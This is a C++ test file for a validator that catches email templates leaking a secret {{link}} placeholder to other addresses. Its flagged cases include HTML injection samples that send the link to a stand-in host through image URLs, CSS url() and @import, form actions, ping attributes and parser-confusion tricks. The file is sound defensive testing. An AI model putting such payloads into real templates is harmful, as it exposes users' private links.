// Where a {{link}} may stand in a message that somebody other than an admin writes.
#include "provisioning/plan/message_links.hpp"

#include "provisioning/plan/pack_state.hpp"
#include "tests/support/catch.hpp"

using acctl::find_link_leak;
using acctl::find_link_leak_in_html;

TEST_CASE("a link in HTML is text of an element or the whole href of an <a>", "[rule rights]") {
  for (
      const std::string html : {
          "<a href=\"{{link}}\">Accept</a>",
          "<p>{{ link }}</p>",
          "{{link}}",
          "here: {{link}}",
          "<b>Link:{{link}}</b>",
          "<a class='x' href='{{link}}'>({{link}})</a>",
          "<A HREF='{{ link }}' target=\"_blank\">x</A>",
          "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/x.dtd\"><html><p>{{link}}</p></html>",
          "<!-- the link --><p>{{link}}</p>",
          "<img src=\"https://x.example/logo.png\" alt='' /><br/><p>a > b {{link}}</p>",
          "<p>https://x.example/</p><p>{{link}}</p>",
          "<table border=\"0\"><tr><td style=\"color: red\">{{name}}: {{link}}</td></tr></table>",
          "<p>Ссылка:{{link}}</p>",
      }) {
    CAPTURE(html);
    CHECK(find_link_leak_in_html(html).empty());
  }
  for (const std::string html : {
           // Part of another address.
           "<img src='https://x.example/?t={{link}}'>",
           "https://x.example/{{ link }}",
           "<img src=\"https://x.example/c:{{link}}\">",
           "<img src=\"https://x.example/ {{link}}\">",
           "<img src=\"https://x.example/c({{link}}\">",
           "<img src=\"{{link}}\">",
           "<a href=\"https://x.example/c:{{link}}\">x</a>",
           "<a href=\"{{link}}.x.example\">x</a>",
           "<a href=\"{{name}}{{link}}\">x</a>",
           "<a href=\"{{name}}/}}{{link}}\">x</a>",
           "<p href=\"{{link}}\">x</p>",
           "<img srcset=\"{{link}} 2x\">",
           "see https://x.example/c:{{link}}",
           "x.example({{link}}",
           "<p>https://x.example/<b>{{link}}</b></p>",
           "<p>{{name}}{{link}}</p>",
           "<p>x。example:{{link}}</p>",
           // Read in another way than it seems.
           "<img src={{link}}>",
           "<img src=https://x.example/?href=\"{{link}}\">",
           "<!-- ' --><img src=\"https://x.example/?' > {{link}}\">",
           "<img src=\"https://x.example/c>{{link}}\">",
           "<img src=\"https://x.example/?\n<p>{{link}}</p>",
           "<img src='x'alt=\"{{link}}\">",
           "<!-- {{link}} -->",
           "<!--><img src=\"https://x.example/?-->{{link}}\">",
           "<!-- a --!><img src=\"https://x.example/?-->{{link}}\">",
           "<!--[if mso]><p>{{link}}</p><![endif]-->",
           "<!-- <p>{{link}}</p>",
           "<![CDATA[ <p> ]]>{{link}}",
           "<?x <img src=\"?>{{link}}\">",
           "</p a=\"<b>\">{{link}}",
           "</p class=\"x\">{{link}}",
           "<img src='x'alt=\"\">{{link}}",
           "<img alt=\"<b>\">{{link}}",
           "< p>{{link}}",
           "{{link}}<p title=\"",
           "{{link}}<p",
           "{{link}} {{a<b}}",
           // What runs, loads or sends.
           "<style>a{background:url( {{link}} )}</style>",
           "<STYLE>@import \"https://x.example/?x= {{link}}\";</STYLE>",
           "<style>a[href*=x]{background:url(https://x.example/)}</style><a href=\"{{link}}\">x</a>",
           "<a href=\"{{link}}\">x</a><script>send()</script>",
           "<form action=\"https://x.example/\"><textarea name=a>{{link}}</textarea><input type=submit></form>",
           "<base href=\"https://x.example/\"><a href=\"{{link}}\">x</a>",
           "<meta http-equiv=\"refresh\" content=\"0\"><p>{{link}}</p>",
           "<svg><p>{{link}}</p></svg>",
           "<a href=\"{{link}}\" ping=\"https://x.example/\">x</a>",
           "<a href=\"{{link}}\" onclick=\"send(this)\">x</a>",
           "<textarea><p>{{link}}</p></textarea>",
           "<title><p>{{link}}</p></title>",
       }) {
    CAPTURE(html);
    CHECK(!find_link_leak_in_html(html).empty());
  }
  // What has no link may have anything.
  CHECK(find_link_leak_in_html("<style>p{color:red}</style><img src=x>{{name}}").empty());
  CHECK(find_link_leak_in_html("<form>").empty());
}

TEST_CASE("a link in plain text is a word of its own", "[rule rights]") {
  for (const std::string text :
       {"{{link}}", "Accept the invitation: {{link}}", "Link:{{ link }}", "<{{link}}>",
        "see <https://x.example/> or {{link}}.", "https://x.example/\n{{link}}", "{{name}}\n", "链接：{{link}}"}) {
    CAPTURE(text);
    CHECK(find_link_leak(text).empty());
  }
  for (const std::string text : {"https://x.example/{{link}}", "https://x.example/?'{{link}}",
                                 "https://x.example/?\"{{link}}", "<https://x.example/? {{link}}>", "{{name}}{{link}}",
                                 "{{link}} https://x.example/{{link}}", "x.example:{{link}}"}) {
    CAPTURE(text);
    CHECK(!find_link_leak(text).empty());
  }
}

TEST_CASE("the templates of all packs pass as they are", "[rule rights]") {
  std::size_t links = 0;
  for (const char* pack : {"helpdesk", "msp", "conversational", "messaging"}) {
    const acctl::State state = acctl::state_of_pack(pack);
    for (const auto& [key, object] : state.at("email_templates")) {
      CAPTURE(pack, std::string(key));
      for (const char* field : {"subject", "text", "html"}) {
        const auto value = object.fields.find(field);
        if (value == object.fields.end() || !value->second.is_string()) continue;
        const auto text = value->second.get<std::string>();
        links += text.find("{{link}}") != std::string::npos ? 1 : 0;
        CHECK((std::string(field) == "html" ? find_link_leak_in_html(text) : find_link_leak(text)).empty());
      }
    }
  }
  CHECK(links > 20);
}
